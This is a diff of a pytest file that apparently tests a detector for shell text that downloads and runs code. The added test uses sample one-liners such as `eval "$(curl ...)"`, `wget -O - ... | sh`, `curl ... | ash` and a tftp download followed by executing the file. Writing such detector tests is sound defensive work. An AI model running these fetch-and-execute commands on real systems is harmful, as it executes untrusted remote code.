@@ -46,3 +46,17 @@ def test_what_is_not(text):
 @pytest.mark.parametrize("piece", ["wget ", "`wget ", 'eval "$(', "wget -O /tmp/a x;", "| sh "])
 def test_hostile_text_ends(piece):
     assert not list(fetched_and_run((piece * 60_000)[: 256 << 10]))
+
+
+def test_fetches_are_told_form_by_form_each_in_the_order_of_the_text():
+    text = (
+        'eval "$(curl http://h/1)"\n'
+        "wget -O - http://h/2 | sh; wget -O - http://h/3 | sh\n"
+        "ls\n"
+        "curl http://h/4 | ash\n"
+        "tftp -l /tmp/u 1.2.3.4; /tmp/u\n"
+    )
+    found = [one.fetch.offset for one in fetched_and_run(text)]
+    places = [text.index(f"wget -O - http://h/{number}") for number in (2, 3)]
+    places += [text.index("curl http://h/4"), 0, text.index("tftp")]
+    assert found == places
